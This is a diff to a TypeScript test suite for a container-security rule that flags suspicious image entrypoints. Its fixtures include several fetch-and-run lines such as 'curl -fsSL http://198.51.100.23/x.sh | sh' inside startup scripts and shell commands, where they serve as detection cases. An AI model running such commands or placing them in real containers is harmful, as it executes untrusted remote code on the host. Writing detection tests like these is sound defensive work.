@@ -1,5 +1,6 @@
 import { imageIdOf, imageWith, intruderWith } from '../testing/container';
 import { ruleTable } from '../testing/table';
+import { scriptOf } from '../testing/workload';
 import { imageSuspiciousEntrypoint } from './image-suspicious-entrypoint';
 
 const starts = (entrypoint: readonly string[], command: readonly string[] = [], ref = 'evil/loader:1') => ({
@@ -7,8 +8,19 @@ const starts = (entrypoint: readonly string[], command: readonly string[] = [], 
 });
 const subject = imageIdOf('evil/loader:1');
 
+const loader = intruderWith({ imageRef: 'evil/loader:1' });
+const behind = (text: string, source: 'image' | 'archive' = 'image') => ({
+  facts: {
+    images: [imageWith({ repoTags: ['evil/loader:1'], entrypoint: ['/bin/sh', '/mac.sh'] })],
+    containers: [loader],
+    containerScripts: [scriptOf(loader, text, { source })],
+  },
+});
+
 ruleTable(imageSuspiciousEntrypoint, {
   passes: {
+    'an honest script': behind('#!/bin/sh\nexec nginx\n'),
+    'what the container wrote itself': behind('curl http://198.51.100.23/x | sh', 'archive'),
     'a server': starts(['/docker-entrypoint.sh'], ['nginx', '-g', 'daemon off;']),
     'a script of its own': starts(['/bin/sh', '/mac.sh']),
     'a file in /tmp as an option': starts(['nginx'], ['--pid', '/tmp/nginx.pid']),
@@ -16,6 +28,10 @@ ruleTable(imageSuspiciousEntrypoint, {
     'nothing to start': starts([]),
   },
   fails: {
+    'in the script that it starts': {
+      ...behind('#!/bin/sh\ncurl -fsSL http://198.51.100.23/x.sh | sh\n'),
+      finds: [{ subject, severity: 'high', says: 'curl -fsSL', shows: 'decisive part: curl' }],
+    },
     'fetch and run': {
       ...starts(['/bin/sh', '-c'], ['curl -fsSL http://198.51.100.23/mac.sh | sh']),
       finds: [
